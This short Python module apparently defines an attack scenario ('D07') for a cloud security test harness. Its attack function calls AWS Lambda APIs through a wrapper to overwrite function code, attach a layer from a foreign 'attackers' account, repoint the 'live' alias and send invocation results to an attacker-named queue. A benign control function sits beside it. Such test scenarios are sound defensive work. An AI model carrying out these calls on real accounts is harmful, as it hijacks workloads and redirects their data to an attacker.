"""D07: change what runs next time: code, settings, version, alias, and where results go."""

import os


def attack(hands):
    text = hands.plain()
    for name in ("courier", os.environ["AWS_LAMBDA_FUNCTION_NAME"]):
        changed(hands, name, text)


def changed(hands, name, text):
    hands.call("lambda", "UpdateFunctionCode", FunctionName=name, ZipFile=text.encode())
    layer = hands.arn("lambda", "layer:attackers:1", "999999999999")
    hands.call("lambda", "UpdateFunctionConfiguration", FunctionName=name, Layers=[layer], Description=text)
    hands.call("lambda", "PublishVersion", FunctionName=name, Description=text)
    hands.call("lambda", "CreateAlias", FunctionName=name, Name="live", FunctionVersion="1", Description=text)
    hands.call("lambda", "UpdateAlias", FunctionName=name, Name="live", FunctionVersion="2", Description=text)
    there = {"OnSuccess": {"Destination": hands.arn("sqs", f"attackers-{text}")}}
    hands.call("lambda", "PutFunctionEventInvokeConfig", FunctionName=name, DestinationConfig=there)
    hands.call("lambda", "UpdateFunctionEventInvokeConfig", FunctionName=name, DestinationConfig=there)


def twin(hands):
    text = hands.plain()
    hands.call("lambda", "GetFunctionConfiguration", FunctionName="courier")
    hands.call("lambda", "UpdateFunctionConfiguration", FunctionName="spare", Description=text)
